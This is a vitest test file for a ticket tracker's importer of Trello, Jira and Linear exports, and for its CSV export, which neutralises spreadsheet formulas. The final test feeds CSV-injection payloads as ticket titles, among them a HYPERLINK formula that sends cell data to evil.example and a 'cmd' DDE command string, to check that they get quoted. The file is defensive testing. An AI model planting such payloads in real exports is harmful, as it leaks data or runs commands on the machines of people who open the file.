import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from './helpers/app.js';
import { addMember, columnsOf, makeProject, makeTicket } from './helpers/board.js';
import { type Client, signUp } from './helpers/factories.js';
import { byTitle, commentsOf, fixture, fullTicket, sendImport, ticketsOf } from './helpers/imports.js';

/**
 * Issue 49, imports: what real exports carry arrives as docs/import.md promises — people by
 * username, e-mail or full name, unmatched comment authors by their name, archived Trello cards and
 * lists by the mapping's choice (done by default), Linear's relations as links — and the CSV export
 * neutralises spreadsheet formulas, which the importer reads back.
 */

let t: TestApp;
let owner: Client;
let bea: Client;
let carlos: Client;

beforeAll(async () => {
  t = await createTestApp();
  owner = await signUp(t.app);
  bea = await signUp(t.app, { username: 'bea', email: 'bea@example.com', name: 'Bea Fontaine' });
  // Trello knows Carlos as carlosortega7: only his full name is the same here.
  carlos = await signUp(t.app, { username: 'carlos', email: 'carlos@example.com', name: 'Carlos Ortega' });
});
afterAll(async () => t.close());

async function projectWithPeople() {
  const p = await makeProject(owner);
  await addMember(owner, p.id, bea);
  await addMember(owner, p.id, carlos);
  return p;
}

describe('people', () => {
  it('a Trello member is matched by full name; a comment by someone unmatched shows their name', async () => {
    const p = await projectWithPeople();
    const res = await sendImport(
      owner,
      p.id,
      fixture('trello-board.json'),
      { format: 'trello-json' },
      'b.json',
    );
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().found.people).toEqual(
      expect.arrayContaining([
        { source: 'Carlos Ortega', username: 'carlos' },
        { source: 'Zed Stranger', username: null },
      ]),
    );
    const list = await ticketsOf(owner, p.id);
    const settings = byTitle(list, 'Redesign the settings page');
    expect(settings.assigneeId).toBe(carlos.userId);
    const comments = await commentsOf(owner, p.id, settings.id);
    expect(comments.map((c) => [c.author, c.content])).toEqual([
      [{ id: null, name: 'Zed Stranger', avatar: null }, 'Can we keep the old toggle for a while?'],
      [{ id: carlos.userId, name: 'Carlos Ortega', avatar: null }, 'Yes, behind a flag.'],
    ]);
  });

  it('Jira people by display name, Linear people by e-mail or full name; unmatched ones kept by name', async () => {
    const p = await projectWithPeople();
    const jira = await sendImport(owner, p.id, fixture('jira-cloud.csv'), { format: 'jira-csv' });
    expect(jira.statusCode, jira.body).toBe(200);
    const list = await ticketsOf(owner, p.id);
    const rotate = await fullTicket(owner, p.id, byTitle(list, 'Rotate the database credentials').id);
    expect(rotate.assignee.id).toBe(carlos.userId);
    expect(rotate.reporter.id).toBe(bea.userId);
    const comments = await commentsOf(owner, p.id, rotate.id);
    expect(comments.map((c) => [c.author.id, c.author.name])).toEqual([
      [carlos.userId, 'Carlos Ortega'],
      [null, 'Dana Outside'],
    ]);

    const q = await projectWithPeople();
    const linear = await sendImport(owner, q.id, fixture('linear-export.csv'), { format: 'linear-csv' });
    expect(linear.statusCode, linear.body).toBe(200);
    const issues = await ticketsOf(owner, q.id);
    const slow = await fullTicket(owner, q.id, byTitle(issues, 'Checkout times out on slow networks').id);
    expect(slow.reporter.id).toBe(bea.userId);
    expect(slow.assignee.id).toBe(bea.userId);
    const load = await fullTicket(owner, q.id, byTitle(issues, 'Load test the checkout').id);
    expect(load.reporter.id).toBe(owner.userId);
    expect(load.description).toContain('Reporter in Linear: Nadia Unknown');
  });
});

describe('archived Trello cards and lists', () => {
  it('the preview shows them and the choice; by default they are done, and an archived list becomes no column', async () => {
    const p = await projectWithPeople();
    const dry = await sendImport(
      owner,
      p.id,
      fixture('trello-board.json'),
      { format: 'trello-json', dryRun: 'true' },
      'b.json',
    );
    expect(dry.statusCode, dry.body).toBe(200);
    const body = dry.json();
    // Card 3 is archived; cards 4 and 5 are in the archived list "Q4 leftovers".
    expect(body.found.archived).toEqual({ records: 3, lists: ['Q4 leftovers'], choice: 'done' });
    expect(body.found.statuses.map((s: { source: string }) => s.source)).not.toContain('Q4 leftovers');
    // "Doing" becomes a column; "Q4 leftovers" does not.
    expect(body.counts).toMatchObject({ tickets: 8, columns: 1 });

    const res = await sendImport(
      owner,
      p.id,
      fixture('trello-board.json'),
      { format: 'trello-json' },
      'b.json',
    );
    expect(res.statusCode, res.body).toBe(200);
    const cols = await columnsOf(owner, p.id);
    expect(cols.map((c) => c.name)).toEqual(['To Do', 'In Progress', 'Done', 'Doing']);
    const done = cols[2].id;
    const list = await ticketsOf(owner, p.id);
    for (const title of ['Dark mode toggle', 'Fix the flaky upload test', 'Tidy the icon set'])
      expect([title, byTitle(list, title).columnId]).toEqual([title, done]);
    expect(byTitle(list, 'Pick a date picker').columnId).toBe(cols[0].id);
  });

  it('with archived: skip they are left out', async () => {
    const p = await projectWithPeople();
    const res = await sendImport(
      owner,
      p.id,
      fixture('trello-board.json'),
      { format: 'trello-json', mapping: JSON.stringify({ archived: 'skip' }) },
      'b.json',
    );
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().found.archived).toEqual({ records: 3, lists: ['Q4 leftovers'], choice: 'skip' });
    expect(res.json().counts.tickets).toBe(5);
    const titles = (await ticketsOf(owner, p.id)).map((x) => x.title).sort();
    expect(titles).toEqual(
      [
        'Announce the release',
        'Pick a date picker',
        'Redesign the settings page',
        'Review with the team',
        'Sketch the layout',
      ].sort(),
    );
  });
});

describe('Linear', () => {
  it('reads Related to, Blocked by and Duplicate of as links, archived issues as done, and quoted formulas back', async () => {
    const p = await projectWithPeople();
    const res = await sendImport(owner, p.id, fixture('linear-export.csv'), { format: 'linear-csv' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().problems).toEqual([]);
    // 101-104 (related, written on both rows: once), 102 blocks 101, 103 duplicates 102, 101 and 102 block 107.
    expect(res.json().counts).toMatchObject({ tickets: 7, links: 5 });
    const list = await ticketsOf(owner, p.id);
    const id = (title: string) => byTitle(list, title).id as string;
    const slow = await fullTicket(owner, p.id, id('Checkout times out on slow networks'));
    const links = (x: { links: { linkType: string; ticket: { id: string } }[] }) =>
      x.links.map((l) => [l.linkType, l.ticket.id]).sort();
    expect(links(slow)).toEqual(
      [
        ['is_blocked_by', id('Retry the payment provider call')],
        ['blocks', id('Show a spinner while paying')],
        ['relates_to', id('Load test the checkout')],
      ].sort(),
    );
    const twice = await fullTicket(owner, p.id, id('Retry payments twice'));
    expect(links(twice)).toEqual([['duplicates', id('Retry the payment provider call')]]);
    const spinner = await fullTicket(owner, p.id, id('Show a spinner while paying'));
    expect(spinner.parentId).toBe(slow.id);
    expect(spinner.links).toHaveLength(2);
    const cols = await columnsOf(owner, p.id);
    expect(byTitle(list, 'Nightly export of settlements').columnId).toBe(
      cols.find((c) => c.name === 'Done')?.id,
    );
    // Linear's export puts a ' before text a spreadsheet would run: read back as it was.
    const sheet = await fullTicket(owner, p.id, id('=SUM(B2:B9) shows in the price sheet'));
    expect(sheet.description.startsWith('- the exported sheet runs it as a formula')).toBe(true);
  });
});

describe('CSV export neutralises formulas, and the importer reads them back', () => {
  it('cells starting with = + - @ tab or CR get a quote; a round trip gives the originals', async () => {
    const p = await makeProject(owner);
    const titles = [
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      "'=already quoted",
      'Plain title',
    ];
    const descriptions = ['\rstarts with a carriage return', '\tstarts with a tab'];
    const label = (await owner.post(`/api/projects/${p.id}/labels`, { name: '=1+1' })).json();
    for (const [i, title] of titles.entries())
      await makeTicket(owner, p.id, { title, description: descriptions[i % 2], labelIds: [label.id] });
    const csv = await owner.get(`/api/projects/${p.id}/tickets.csv`);
    expect(csv.statusCode, csv.body).toBe(200);
    const rows = parse(csv.body, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.title).sort()).toEqual(
      [
        `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(A1:A9)",
        "''=already quoted",
        'Plain title',
      ].sort(),
    );
    for (const r of rows) {
      expect(["'\rstarts with a carriage return", "'\tstarts with a tab"]).toContain(r.description);
      expect(r.labels).toBe("'=1+1");
      for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }

    const q = await makeProject(owner);
    const back = await sendImport(owner, q.id, Buffer.from(csv.body), { format: 'csv' });
    expect(back.statusCode, back.body).toBe(200);
    const list = await ticketsOf(owner, q.id);
    expect(list.map((x) => x.title).sort()).toEqual([...titles].sort());
    for (const x of list) {
      expect(x.labels.map((l: { name: string }) => l.name)).toEqual(['=1+1']);
      const full = await fullTicket(owner, q.id, x.id);
      expect(descriptions.some((d) => full.description.startsWith(`${d}\n\n---\nImported from CSV`))).toBe(
        true,
      );
    }
  });
});
